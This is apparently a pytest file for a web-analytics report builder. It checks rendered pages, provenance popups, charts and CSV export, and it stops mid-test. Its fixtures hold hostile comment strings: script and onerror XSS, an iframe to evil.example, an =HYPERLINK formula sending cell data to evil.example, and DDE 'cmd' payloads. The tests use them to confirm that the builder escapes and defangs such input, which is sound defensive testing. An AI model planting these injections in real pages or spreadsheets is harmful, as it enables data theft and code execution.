"""The report as a product manager opens it: in a real browser, from disk, without a fault or a request."""

import base64
import csv
import json
import math
import random
import re
import shutil
import struct
import zlib
from collections.abc import Sequence
from datetime import date, timedelta
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import polars as pl
import polars.selectors as cs
import pytest
from browsers import violations
from support import at, compute_all, drop, ndjson, product, record, take_all

from pipeline.build.configured import marts as configured
from pipeline.build.restatements import ledger
from pipeline.core.keys import mart_key
from pipeline.core.lake import Lake
from pipeline.core.registry import MARTS, TABLES
from pipeline.core.states import published_days, scan_days
from pipeline.publish.csv_export import export_csv
from pipeline.report.faults import PagesFailedError
from pipeline.report.flow import flow_of
from pipeline.report.page import GROUPS, Shown
from pipeline.report.pages import pages, report_pages
from pipeline.report.parts import duration
from pipeline.report.place import place_of
from pipeline.report.provenance import trust_of
from pipeline.report.replays import replays_of
from pipeline.report.write import NotPublishedError, send_week, write_report
from pipeline.report.yesterday import yesterday
from pipeline.stats.intervals import wilson

# What stands where there is no number.
DASH = "\u2013"
HOSTILE = '"><script>document.title="taken"</script><img src=x onerror=alert(1)>'
# What has no features configured has no page of them.
PAGES = tuple(page.name for page in report_pages() if page.name != "features")
# Comments as hostile hands write them; `zoom` puts them into a theme, so that they are quoted.
COMMENTS = (
    f"zoom {HOSTILE}",
    "zoom <!-- </blockquote></figure><iframe src=//evil.example></iframe> -->",
    "zoom {{ 7 * 7 }} {% raw %} ${alert(1)}",
    '=HYPERLINK("https://evil.example/?"&A1, "zoom")',
    "+zoom-1+cmd|' /C calc'!A0",
    "@SUM(zoom)*cmd|' /C calc'!A0",
    "-2+3 zoom, a sum at the begin",
    "\t=1+1 zoom behind a blank",
    "\U0001f44d\U0001f3fd\u200d\U0001f680 zoom is \U0001f4a9\U0001f4a9 for all of us \U0001f9d1\u200d\U0001f469\u200d\U0001f467",
    "\u202eevil zoom\u202c الصورة لا تكبر",
    "z\u200bo\u200bo\u200bm and zoom\u2060 zero\ufeffwidth",
    "Z\u0337\u0301\u0310o\u0337\u0301om zoom " + "a\u0300" * 50,
)
HUGE = "zoom " + "x" * 999_995
HOSTILE_SURVEY = "=1+1|<b>survey</b>"
DRAWN = ("zones", "heatmaps")
SIZE = {"window_width": 1000, "window_height": 600, "page_width": 1000, "page_height": 1400}
# Nobody's page says this; what a hostile visitor sends as an element might.
CHAIN = f'<section class="hero"><a title="{HOSTILE}">'
CHANGES: dict[str, Any] = {
    "name": HOSTILE,
    "properties": {},
    "funnels": {
        "buy": {
            "steps": [{"label": HOSTILE, "kind": "page_view", "page": "home"}, {"label": "Bought", "kind": "order"}],
            "window_days": 1,
            "breakdown": {"by": "country"},
        }
    },
    "retention": {"weekly": {"period": "week", "periods": 3}},
    "surveys": {f"survey{i}": {"questions": {"recommend": {"kind": "nps"}, "why": {"kind": "text"}}} for i in range(3)},
    "themes": {"zoom": {"words": ["zoom"]}},
    "experiments": {"note": {"variants": {"a": 1, HOSTILE: 1}, "control": "a"}},
    "releases": {"button": {"day": "2026-02-10"}},
    "hypotheses": {
        "more": {"statement": HOSTILE, "metric": "conversion", "expected": "higher", "experiment": "note"},
        "calm": {"statement": "Calmer", "metric": "frustration", "expected": "lower", "release": "button"},
    },
    "journeys": {"ways": {"items": "events"}},
    "pages": [
        {
            "name": "home",
            "urls": ["/"],
            "pictures": [
                {"file": "before.png", "device_type": "desktop", "width": 1000, "valid_to": "2026-02-11"},
                {"file": "after.png", "device_type": "desktop", "width": 1000, "valid_from": "2026-02-12"},
            ],
        }
    ],
    "zones": [
        {
            "name": "hero",
            "page": "home",
            "selectors": ["section.hero"],
            "boxes": [{"x": 100, "y": 100, "width": 500, "height": 200}],
        }
    ],
}


def png(width: int, height: int) -> bytes:
    """A grey picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = b"".join(b"\0" + b"\xc0" * width for _ in range(height))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def answers() -> list[dict[str, Any]]:
    """Hostile comments of unhappy people, four to a survey; one of a megabyte; a survey with a hostile name."""
    rows: list[dict[str, Any]] = []
    for i, text in enumerate([*COMMENTS, HUGE]):
        common = {
            "survey_id": f"survey{i % 3}",
            "response_id": f"r{i}",
            "anonymous_id": f"h{i}",
            "url": "https://a.example/",
        }
        when = f"2026-02-20T10:{i:02}:00"
        rows.append(record(f"n{i}", when, "survey_answered", question_id="recommend", score=0, **common))
        rows.append(record(f"t{i}", when, "survey_answered", question_id="why", text=text, **common))
    rows.append(
        record("x1", "2026-02-20T11:00:00", "survey_answered", survey_id=HOSTILE_SURVEY, question_id=HOSTILE, score=3)
    )
    return rows


def made(home: Path) -> Lake:
    """Three weeks of a few people; names and countries that try to break out."""
    rows: list[dict[str, Any]] = []
    for day in range(21):
        for person in range(6):
            if (day + person) % 3:
                continue
            begin = at("2026-02-02T09:00") + timedelta(days=day, minutes=person)
            who = {"anonymous_id": f"d{person}", "country": HOSTILE, "device_type": "desktop"}
            rows += [
                record(f"v{day}-{person}", begin.isoformat(), url="https://a.example/", **who, **SIZE),
                *(
                    record(
                        f"r{day}-{person}-{i}",
                        (begin + timedelta(seconds=9, milliseconds=200 * i)).isoformat(),
                        "click",
                        url="https://a.example/",
                        element_chain=CHAIN,
                        x=300,
                        y=150,
                        **who,
                        **SIZE,
                    )
                    for i in range(3 if person == 0 else 1)
                ),
                record(
                    f"s{day}-{person}",
                    (begin + timedelta(seconds=20)).isoformat(),
                    "scroll",
                    url="https://a.example/",
                    scroll_y=400,
                    **who,
                    **SIZE,
                ),
                record(f"c{day}-{person}", (begin + timedelta(minutes=1)).isoformat(), "custom", name=HOSTILE, **who),
                record(
                    f"x{day}-{person}",
                    (begin + timedelta(seconds=1)).isoformat(),
                    "experiment",
                    experiment_id="note",
                    variant=("a", HOSTILE)[person % 2],
                    **who,
                ),
                record(
                    f"o{day}-{person}",
                    (begin + timedelta(minutes=2)).isoformat(),
                    "order",
                    revenue_micros=9_000_000,
                    order_id=f"{day}-{person}",
                    **who,
                ),
            ]
    drop(home, "web/a.ndjson", ndjson([*rows, *answers()]))
    for name in ("before.png", "after.png"):
        (home / name).write_bytes(png(100, 140))
    lake = Lake(home)
    chosen = product(**CHANGES)
    take_all(lake, chosen)
    compute_all(lake, chosen)
    return lake


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    lake = made(tmp_path_factory.mktemp("home"))
    return write_report(lake, product(**CHANGES)).parent


def test_the_digest_is_one_page_a_picture_and_a_message_sent_once(report: Path, browser: Any) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto((report / "digest.html").as_uri())
    stated = page.inner_text("main")
    assert "Digest: Week from 16 February 2026" in stated
    assert "126.00" in stated
    assert page.pdf(format="A4").count(b"/Type /Page\n") == 1
    page.close()
    picture = (report / "digest.png").read_bytes()
    assert picture.startswith(b"\x89PNG")
    assert struct.unpack(">I", picture[16:20]) == (1440,)
    heard: list[dict[str, str]] = []

    class Webhook(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            heard.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(200 if len(heard) > 1 else 503)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            """Nothing is written."""

    with HTTPServer(("127.0.0.1", 0), Webhook) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        lake, address = Lake(report.parent), f"http://127.0.0.1:{server.server_port}/"
        assert not send_week(lake, product(**CHANGES), None)
        # Busy at first, it is asked again.
        assert [send_week(lake, product(**CHANGES), address) for _ in range(2)] == [True, False]
        server.shutdown()
    text = heard[-1]["text"]
    assert "Week from 16 February 2026" in text
    assert "• revenue: *126.00" in text.replace("\u00a0", " ")
    assert "<script>" not in text, "nothing links or calls anybody"


# Between the margins, in CSS px; what is drawn beyond them is cut off.
A4_WIDTH = 703
BEYOND_THE_PAPER = """width => [...document.querySelectorAll('main table, main figure, main svg')]
  .filter((each) => each.checkVisibility() && each.getBoundingClientRect().right > width + 24)
  .map((each) => each.closest('.part')?.querySelector('h2')?.textContent ?? each.outerHTML.slice(0, 80))"""


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_a_page_opens_without_a_fault_or_a_request(
    report: Path, browser: Any, name: str, width: int, scheme: str
) -> None:
    faults: list[str] = []
    page = browser.new_page(viewport={"width": width, "height": 800}, color_scheme=scheme)
    page.on("console", lambda stated: faults.append(stated.text) if stated.type in ("error", "warning") else None)
    page.on("pageerror", lambda fault: faults.append(str(fault)))
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.on("request", lambda asked: None if asked.url.startswith(("file:", "data:")) else faults.append(asked.url))
    page.goto((report / f"{name}.html").as_uri())
    assert page.locator("h1").count() == 1
    if name in DRAWN:
        page.wait_for_selector("#stage svg")
    assert page.locator("script[src], img[src^=http], link, iframe").count() == 0
    assert page.title() != "taken"
    if width < 600:
        assert page.evaluate("document.documentElement.scrollWidth") <= width, "nothing sticks out of a phone"
    assert page.evaluate("[...document.querySelectorAll('svg')].every(svg => svg.querySelector('title'))")
    assert [(each["id"], each["nodes"][0]["html"]) for each in violations(page, frames=False)] == []
    # Links are the same at each width and in each scheme.
    if width > 600:
        for href in page.locator("a:not([hidden])").evaluate_all("all => all.map(each => each.getAttribute('href'))"):
            file, _, section = href.partition("#")
            assert (report / file).is_file() if file else page.locator(f'[id="{section}"]').count() == 1, href
        page.set_viewport_size({"width": A4_WIDTH, "height": 1_000})
        page.emulate_media(media="print")
        assert page.evaluate(BEYOND_THE_PAPER, A4_WIDTH) == []
    page.close()
    assert not faults


def test_a_number_tells_its_provenance_by_mouse_and_by_keyboard(report: Path, browser: Any) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto((report / "kpis.html").as_uri())
    row = page.locator("tbody:not([hidden]) tr", has=page.locator("th", has_text="conversion")).first
    row.locator("td").first.hover()
    # The number, how many, and how to see the rest. Each of the week's 14 visits is followed by an order; 14 answers are sessions
    # without one.
    lines = page.inner_text("#provenance").splitlines()
    assert [line for line in lines if line] == [
        "conversion, now: 50.0%",
        "14 of 28. 19 people, 16\u00a0Feb to 22\u00a0Feb.",
        "Click or Enter: what it is and where it comes from",
    ]
    row.locator("td").first.click()
    page.mouse.move(5, 5)
    stated = page.inner_text("#provenance")
    for words in (
        "conversion, now: 50.0%",
        "14 of 28. 19 people",
        "Adds over: nothing",
        "Complete up to 22 February 2026",
        "Mart kpis, column figure, definition 2.",
    ):
        assert words in stated, (words, stated)
    page.keyboard.press("Escape")
    assert page.locator("#provenance").is_hidden()
    first = page.locator("table td[tabindex='0']").first
    first.focus()
    page.keyboard.press("ArrowRight")
    assert "before: " in page.inner_text("#provenance")
    assert page.evaluate("document.activeElement.getAttribute('aria-describedby')") == "provenance"
    # Interval and number stand together.
    row.locator("td").nth(2).hover()
    assert "Interval: " in page.inner_text("#provenance")
    page.goto((report / "index.html").as_uri())
    page.locator(".tile", has_text="Revenue").focus()
    assert "column revenue" not in page.inner_text("#provenance")
    page.keyboard.press("Enter")
    assert "column revenue" in page.inner_text("#provenance")
    assert "With them: +0.0% sessions" not in page.inner_text("#provenance"), "of money bots add nothing that is told"
    page.close()


# Columns of numbers of the first rows shown, and tiles, that tell no provenance.
UNTOLD = """() => [...document.querySelectorAll('main table')].flatMap((table) => {
  const rows = [...[...table.tBodies].find((body) => !body.hidden).rows];
  const told = (head, i) => i === 0 || head.dataset.provenance || head.classList.contains('words');
  return [...table.tHead.rows[0].cells].filter((head, i) => !told(head, i) && rows.some((row) => /^[-+0-9]/.test(row.cells[i]?.textContent ?? '')))
    .map((head) => head.textContent);
}).concat([...document.querySelectorAll('.tile:not([data-provenance])')].map((tile) => tile.textContent))"""


def test_every_number_has_a_provenance(report: Path, browser: Any) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    untold: dict[str, list[str]] = {}
    for name in PAGES:
        page.goto((report / f"{name}.html").as_uri())
        untold[name] = page.evaluate(UNTOLD)
    page.close()
    # Definitions are what provenances quote; `1/10,000` is a unit there.
    assert {name: result for name, result in untold.items() if result and name != "definitions"} == {}


def test_pickers_show_the_numbers_of_the_marts(report: Path, browser: Any) -> None:
    lake = Lake(report.parent)
    kpis = pl.read_parquet(lake.path("marts/kpis.parquet"))
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto((report / "kpis.html").as_uri())
    period, group = page.locator("[data-picks] select").all()
    seen: set[tuple[str, ...]] = set()
    for choice in period.locator("option").evaluate_all("all => all.map(each => each.value)"):
        for value in group.locator("option").evaluate_all("all => all.map(each => each.value)"):
            period.select_option(choice)
            group.select_option(value)
            dimension, _, name = value.partition("=")
            own = kpis.filter(
                pl.col("period") == choice, pl.col("dimension") == dimension, pl.col("value") == name, pl.col("kpi") == "sessions", "mature"
            ).sort("period_start")  # fmt: skip
            shown = page.locator(
                "[id^=picked] tbody:not([hidden]) tr", has=page.locator("th", has_text=re.compile("^sessions$"))
            )
            cells = shown.locator("td").all_inner_texts()
            expected = [f"{own['figure'][-1]:,.0f}"] if own.height else []
            assert cells[:1] == expected, (choice, value)
            seen.add((choice, *cells[:1]))
    assert len(seen) > 2, "what is picked changes what is shown"
    page.goto((report / "funnels.html").as_uri())
    steps = pl.read_parquet(lake.path("marts/funnel_steps.parquet")).filter(
        pl.col("period") == "week", pl.col("breakdown_value") == ""
    )
    week = steps["period_start"].max()
    page.locator("[data-picks] select").first.select_option(str(week))
    shown = page.locator("[id^=picked] tbody:not([hidden]) tr td:nth-child(2)").all_inner_texts()
    own = steps.filter(pl.col("period_start") == week).sort("step")
    assert shown == [f"{people:,}" for people in own["people_converted"]]
    page.close()


def test_what_the_pages_say(report: Path, browser: Any) -> None:
    page = browser.new_page()
    stated: dict[str, str] = {}
    for name in PAGES:
        page.goto((report / f"{name}.html").as_uri())
        stated[name] = page.inner_text("main")
    page.close()
    assert "Week from 16 February 2026" in stated["index"]
    assert "14 people" not in stated["index"]
    for words in ("126 EUR", "Conversion", "100.0%"):
        assert words in stated["index"], words
    assert "Retention: weekly" in stated["retention"]
    assert "Dormant, below the line" in stated["retention"]
    assert HOSTILE in stated["funnels"], "shown as it is written"
    assert HOSTILE in stated["experiments"]
    assert "too little data yet" in stated["experiments"]
    assert "revenue per person" in stated["kpis"]
    assert "Too few people bought again" in stated["value"]
    assert "None yet." in stated["opportunities"]
    assert "2.0 min" in stated["funnels"]
    assert "page_view > " in stated["journeys"]
    assert "rage click" in stated["friction"]
    assert "<img src=x onerror=alert(1)>" in stated["friction"], "the element as it was sent"
    assert "hero" in stated["zones"]
    # Texts are compared without the blanks that a browser folds.
    for text in COMMENTS:
        assert " ".join(text.split()) in " ".join(stated["voice"].split()), text
    assert HUGE[:100] not in stated["voice"], "too long to be a quote"
    assert HOSTILE_SURVEY in stated["voice"]
    assert re.search(r"Of 1 files 1 came more than two days after .* the latest \d+ days", stated["quality"])


def test_zones_bear_the_metric_that_is_picked(report: Path, browser: Any) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto((report / "zones.html").as_uri())
    page.wait_for_selector("#stage svg >> nth=1")
    captions = page.locator("#stage figcaption").all_inner_texts()
    assert captions == ["02 Feb 2026 to 11 Feb 2026", "12 Feb 2026 to 22 Feb 2026"]
    # Each of the 42 page views has a click on the hero: 20 before the picture changed, 22 after.
    # The change stands in the second one, with its interval.
    before, after = page.locator("#stage text.tag").all_text_contents()
    assert (before, after[:20]) == ("hero  100.0 %", "hero  100.0 %  0.0 (")
    page.locator("#pickers select[name=metric]").select_option("rage_rate")
    page.wait_for_timeout(200)
    shown = [text.split("  ")[1] for text in page.locator("#stage text.tag").all_text_contents()]
    raged = [sum(1 for day in days if not day % 3) for days in (range(10), range(10, 21))]
    assert shown == [f"{100 * r / n:.1f} %" for r, n in zip(raged, (20, 22), strict=True)]
    # Before and after stand side by side with the change and Newcombe's interval, from both of Wilson's.
    before, after = ((r, n) for r, n in zip(raged, (20, 22), strict=True))
    ends = [wilson(*each) or (0.0, 0.0) for each in (before, after)]
    change = after[0] / after[1] - before[0] / before[1]
    low = change - math.hypot(after[0] / after[1] - ends[1][0], ends[0][1] - before[0] / before[1])
    high = change + math.hypot(ends[1][1] - after[0] / after[1], before[0] / before[1] - ends[0][0])
    told = page.locator("#details tbody tr").first.locator("td").all_inner_texts()
    assert told[-2:] == [f"{100 * change:+.1f}", f"{100 * low:+.1f} to {100 * high:+.1f}"]
    assert "Rage click rate" in page.inner_text("#details .legend")
    box = page.locator("#stage svg rect.zone").first
    box.click()
    assert "Click rate" in page.inner_text("#details")
    assert "20 of 20" in page.inner_text("#details")
    assert page.locator("#details svg.weeks rect").count() == 3, "the zone's weeks"
    # What is picked stands in the address, and opens again from there.
    page.locator("#pickers select[name=compare]").select_option(index=1)
    page.wait_for_timeout(200)
    sides = page.locator("#stage figcaption").all_inner_texts()
    assert [side.partition(",")[0] for side in sides] == ["note: a", f"note: {HOSTILE}"]
    address = page.url
    page.close()
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(address)
    page.wait_for_selector("#stage svg >> nth=1")
    assert page.locator("#stage figcaption").all_inner_texts() == sides
    assert page.locator("#pickers select[name=metric]").input_value() == "rage_rate"
    page.close()


def test_heatmaps_draw_what_the_cells_hold(report: Path, browser: Any) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto((report / "heatmaps.html").as_uri())
    page.wait_for_selector("#stage canvas >> nth=1")
    # All clicks lie at 300, 150: there is colour, and none far from there.
    alpha = "(at) => document.querySelector('canvas').getContext('2d').getImageData(...at, 1, 1).data[3]"
    assert page.evaluate(alpha, [300, 150]) > 100
    assert page.evaluate(alpha, [300, 1000]) == 0
    page.locator("#pickers select").nth(2).select_option("reach")
    page.wait_for_timeout(200)
    assert "90 % got here" in page.locator("#stage text.tag").all_text_contents()
    page.close()


def test_hostile_comments_are_intact_in_parquet_and_harmless_in_csv(report: Path, tmp_path: Path) -> None:
    lake = Lake(report.parent)
    kept = scan_days(lake, "feedback", published_days(lake, "feedback")).filter(pl.col("question") == "why").collect()
    assert sorted(kept["text"].to_list()) == sorted([*COMMENTS, HUGE])
    quotes = pl.read_parquet(lake.path("marts/quotes.parquet"))
    assert sorted(quotes["quote"].to_list()) == sorted(COMMENTS)
    files = export_csv(lake, tmp_path)
    assert {path.stem for path in files} == {mart.name for mart in configured(product(**CHANGES))}
    csv.field_size_limit(10_000_000)
    texts = {mart.name: {c.name for c in mart.columns if c.dtype == pl.String()} for mart in MARTS}
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.DictReader(file):
                for name in texts[path.stem]:
                    assert row[name].lstrip()[:1] not in set("=+-@|%"), (path.name, name, row[name])
    with (tmp_path / "quotes.csv").open(encoding="utf-8-sig", newline="") as file:
        shown = {row["quote"] for row in csv.DictReader(file)}
    assert {text.removeprefix("'") for text in shown} == set(COMMENTS), "nothing but the quote in front is added"


def test_pages_are_small_and_the_same_marts_give_the_same_bytes(report: Path) -> None:
    before = {path.name: path.read_bytes() for path in report.glob("*.html")}
    assert set(before) == {f"{name}.html" for name in PAGES}
    assert max(map(len, before.values())) < 2_000_000
    write_report(Lake(report.parent), product(**CHANGES))
    assert {path.name: path.read_bytes() for path in report.glob("*.html")} == before


def case_rows() -> dict[str, list[dict[str, Any]]]:
    """An opportunity with all that can be told of one, under hostile names."""
    money = {
        "cost_per_week": 2445.1,
        "cost_low": 2135.6,
        "cost_high": 2754.6,
        "cost_low_95": 1972.0,
        "cost_high_95": 2918.3,
    }
    own = {
        "opportunity_id": "abc", "kind": "zone", "page": HOSTILE, "subject": f"error_click in {HOSTILE}", "rule_set": "default", "goal": "buy",
        "sessions_with": 196, "sessions_without": 640, "sessions_with_all": 196, "rate_with": 0.25, "effect": 0.52, "low": 0.45, "high": 0.59,
        "q_value": 0.0001, "claimed": True, "met_per_week": 49.0, "lost_per_week": 25.6, "lost_low": 22.4, "lost_high": 28.8,
        "order_value": 95.5, "weeks_of_work": 2.0, "effort_stated": False, "payback_weeks": 3.3, "rank": 1, "weeks_claimed": 8, **money,
    }  # fmt: skip
    days = [date(2026, 1, 4) + timedelta(days=7 * i) for i in range(8)]
    closed = {**own, "opportunity_id": "old", "kind": "friction", "subject": "slow_page", "rank": None, "closed": days[2], "promised_per_week": 900.0, "realised_per_week": 700.0, "realised_low": 500.0, "realised_high": 900.0}  # fmt: skip
    gone = {**own, "opportunity_id": "gone", "subject": "dead_click in gallery", "rank": None, "state": "gone", "since": days[6], "release": HOSTILE, "used_to_cost": 1510.8}  # fmt: skip
    same = {**own, "opportunity_id": "same", "subject": "rage_click in pay", "rank": None, "part_of": "abc"}
    few = {
        **own,
        "opportunity_id": "few",
        "kind": "theme",
        "subject": "paying",
        "rank": 2,
        "claimed": False,
        "q_value": None,
        "state": "new",
        "since": days[6],
    }
    result = [
        {**row, "as_of": days[7], "first_as_of": days[0]}
        for row in ({**own, "state": "growing"}, closed, gone, same, few)
    ]
    seen = {"opportunity_id": "abc", "day": days[7], "happened_at": at("2026-02-22T10:00"), "device_type": "mobile"}
    session = {"kind": "session", "offset_seconds": Decimal(41), "detail": f"TypeError at pay.js {HOSTILE}", **seen}
    quotes = [
        {"kind": "quote", "position": i + 1, "session_key": str(i), "detail": text, "score": i, **seen}
        for i, text in enumerate(COMMENTS[:3])
    ]
    return {
        "opportunities": result,
        "opportunity_history": [{**own, "as_of": day} for day in days],
        "evidence": [*({**session, "position": i + 1, "session_key": -(10**18) + i} for i in range(10)), *quotes],
    }  # fmt: skip


def test_a_business_case_prints_on_two_pages(report: Path, browser: Any, tmp_path: Path) -> None:
    home = tmp_path / "home"
    shutil.copytree(report.parent, home)
    for name, rows in case_rows().items():
        table = TABLES[name]
        blank = {
            c.name: None if c.nullable or c.dtype == pl.Float64() else "" if c.dtype == pl.String() else 0
            for c in table.columns
        }
        known = [{**blank, **{n: v for n, v in row.items() if n in table.schema}} for row in rows]
        table.conform(pl.DataFrame(known, schema=table.schema)).write_parquet(home / "marts" / f"{name}.parquet")
    write_report(Lake(home), product(**CHANGES))
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    faults: list[str] = []
    page.on("console", lambda stated: faults.append(stated.text) if stated.type in ("error", "warning") else None)
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.goto((home / "report" / "opportunities.html").as_uri())
    listed = page.inner_text("main")
    assert "A week of waiting costs about 2,445" in listed
    assert "700.00" in listed, "what a closed one brought"
    assert "(growing); with it Rage clicks on pay" in listed
    assert "too few were affected" in listed
    first, _, rest = listed.partition("No longer seen")
    assert "Dead clicks on gallery" not in first, "what has stopped isn't to be fixed"
    assert "15\u00a0Feb\u00a02026" in rest
    assert "1,511" in rest
    page.locator("main a").first.click()
    stated = page.inner_text("main")
    # 52 / 12 weeks a month.
    for words in (
        "alike in device, whether they are new or returning and page views before it, 77.0%",
        "Waiting one more month costs about 10,595",
        "pays back in 3.3 weeks",
        "77.0%",
        "25.0%",
        "41 s",
        "score 2",
    ):
        assert words in stated, words
    assert stated.count("TypeError at pay.js") == 6, "as many as fit on two pages"
    assert page.locator("blockquote").count() == 3
    assert page.locator("nav a[aria-current='page']").count() == 0, "the case stands below its list"
    printed = page.pdf(format="A4", print_background=True)
    assert 1 <= printed.count(b"/Type /Page\n") <= 2
    page.close()
    assert not faults
    # What isn't worth a case any more may quote somebody: it goes.
    table = TABLES["opportunities"]
    table.schema.to_frame().write_parquet(home / "marts" / "opportunities.parquet")
    write_report(Lake(home), product(**CHANGES))
    assert not list((home / "report").glob("case-*"))


@pytest.mark.parametrize(
    ("kind", "page", "subject", "framed"),
    [
        ("zone", "home", "dead_click in hero", (100, 100, 500, 200)),
        ("friction", "home", "slow_page", None),
        ("zone", "home", "dead_click in a zone that is no more", ()),
        ("zone", "elsewhere", "dead_click in hero", ()),
        ("theme", "home", "zoom", ()),
        ("funnel_drop", "home", "Bought, mobile", ()),
    ],
)
def test_a_case_shows_its_place(
    report: Path, kind: str, page: str, subject: str, framed: tuple[int, ...] | None
) -> None:
    row = {"kind": kind, "page": page, "subject": subject, "as_of": date(2026, 2, 22)}
    # Nobody's device has a picture: the one that has one is shown.
    place = place_of(product(**CHANGES), report.parent, row, pl.Series("device_type", ["mobile", "tablet"]))
    if framed == ():
        assert place is None
        return
    drawn = str(place)
    (picture,) = re.findall(r'<image href="data:image/png;base64,([^"]+)"', drawn)
    assert base64.b64decode(picture) == (report.parent / "after.png").read_bytes(), "as the page looks on that day"
    frames = [
        tuple(map(int, each)) for each in re.findall(r'<rect x="(\d+)" y="(\d+)" width="(\d+)" height="(\d+)"', drawn)
    ]
    assert frames == ([framed] if framed else [])


def test_a_home_without_marts_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(NotPublishedError, match="run `footfall run` first"):
        write_report(Lake(tmp_path), product())


def test_nothing_configured_and_one_day_of_data_is_a_report_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    drop(tmp_path, "web/a.ndjson", ndjson([record("a", "2026-02-02T09:00")]))
    lake = Lake(tmp_path)
    chosen = product(funnels={}, goals={}, zones=[])
    take_all(lake, chosen)
    compute_all(lake, chosen)
    first = write_report(lake, chosen)
    assert "No complete week yet" in first.read_text()
    assert "Nothing is configured" in (first.parent / "journeys.html").read_text()

    def failing(*_: Any) -> None:
        raise ZeroDivisionError("of <nobody>")

    # A page that fails says so on itself, and the others are made all the same.
    monkeypatch.setattr("pipeline.report.pages.voice.voice_page", failing)
    (first.parent / "journeys.html").unlink()
    with pytest.raises(PagesFailedError, match="voice: ZeroDivisionError: of <nobody>; the other pages"):
        write_report(lake, chosen)
    reported = (first.parent / "voice.html").read_text()
    assert "This page couldn&#39;t be made" in reported
    assert "ZeroDivisionError: of &lt;nobody&gt;" in reported
    assert "Nothing is configured" in (first.parent / "journeys.html").read_text()


@pytest.mark.parametrize("seed", range(4))
def test_a_number_that_is_missing_fails_no_page(report: Path, seed: int) -> None:
    """Whatever a mart's contract lets be null may be: all of it at once, or some of it here and there."""
    lake, chosen, rng = Lake(report.parent), product(**CHANGES), random.Random(seed)
    marts: dict[str, pl.DataFrame] = {mart.name: mart.schema.to_frame() for mart in MARTS}
    for mart in configured(chosen):
        # Enough of everybody, so that nothing is left out for being few.
        counted = [each.name for each in mart.columns if each.unit in ("person", "session", "response", "page view")]
        rows = pl.read_parquet(lake.path(mart_key(mart.name))).with_columns(cs.decimal().cast(pl.Float64))
        frame = rows.with_columns(pl.col(counted) * 100)
        for column in mart.columns:
            # A contribution to a change of revenue is of money, always.
            if column.nullable and column.name in frame.columns and column.name != "contribution_exact":
                share = rng.choice([0, 0.5, 1]) if seed else 1
                lost = pl.Series([rng.random() < share for _ in range(frame.height)], dtype=pl.Boolean)
                frame = frame.with_columns(pl.when(~lost).then(column.name).alias(column.name))
        marts[mart.name] = frame
    # What people did before they answered, where nobody answered low.
    behaviour = marts["score_by_behaviour"]
    none_low = {"period": "last_28", "survey": "survey0", "question": "recommend", "behaviour": "zone", "value": "home/hero", "conclusion": "unclear",
                "responses_with": 100, "responses_without": 100}  # fmt: skip
    row = pl.DataFrame([none_low]).cast({name: behaviour.schema[name] for name in none_low})  # pyright: ignore[reportArgumentType]
    marts["score_by_behaviour"] = pl.concat([behaviour, row], how="diagonal")
    made = pages(Shown(chosen, marts, lake.home, replays_of(marts), ledger(lake), trust_of(marts)))
    assert len(made) >= 16
    assert [page.fault for page in made if page.fault] == []


def test_ribbons_are_as_broad_as_visits_and_blocks_hold_them() -> None:
    drawn = flow_of([("1_a", "2_b", 30), ("1_a", "2_c", 10), ("2_b", "3_d", 5)])
    blocks = {(block.x, block.item): block for block in drawn.blocks}
    a, b, c = (blocks[x, item] for x, item in ((0, "a"), (450, "b"), (450, "c")))
    assert a.height == pytest.approx(b.height + c.height)
    assert b.height == pytest.approx(3 * c.height)
    assert b.y + b.height < c.y
    assert sorted(ribbon.title for ribbon in drawn.ribbons) == [
        "a to b: 30 visits",
        "a to c: 10 visits",
        "b to d: 5 visits",
    ]
    assert flow_of([]).blocks == []


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [(None, DASH), (0, "0 s"), (119, "119 s"), (120, "2.0 min"), (7200, "2.0 h"), (200_000, "2.3 d")],
)
def test_durations_are_read_at_a_glance(seconds: float | None, shown: str) -> None:
    assert duration(seconds) == shown


# -- the newest day, and the way to each page


def _days(values: list[float], kpi: str = "orders") -> pl.DataFrame:
    rows = [
        {"kpi": kpi, "period": "day", "dimension": "", "period_start": date(2026, 3, 1) + timedelta(days=n), "figure": value, "unit": "count"}
        for n, value in enumerate(values)
    ]  # fmt: skip
    return pl.DataFrame(rows, schema={"kpi": pl.String, "period": pl.String, "dimension": pl.String, "period_start": pl.Date, "figure": pl.Float64, "unit": pl.String})  # fmt: skip


@pytest.mark.parametrize(
    ("before", "last", "said"),
    [
        (range(60, 88), 74, "as usual: orders 74 (usual 64 to 84)"),
        (range(60, 88), 90, "out of the usual: orders 90 (usual 64 to 84)"),
        (range(60, 88), 10, "out of the usual: orders 10 (usual 64 to 84)"),
        # Of thirteen days nothing is usual yet, and what never happened isn't either.
        (range(60, 73), 90, ""), ([0] * 28, 0, ""), ([], 5, ""),
    ],
)  # fmt: skip
def test_the_newest_day_stands_beside_its_usual_range(before: Sequence[int], last: int, said: str) -> None:
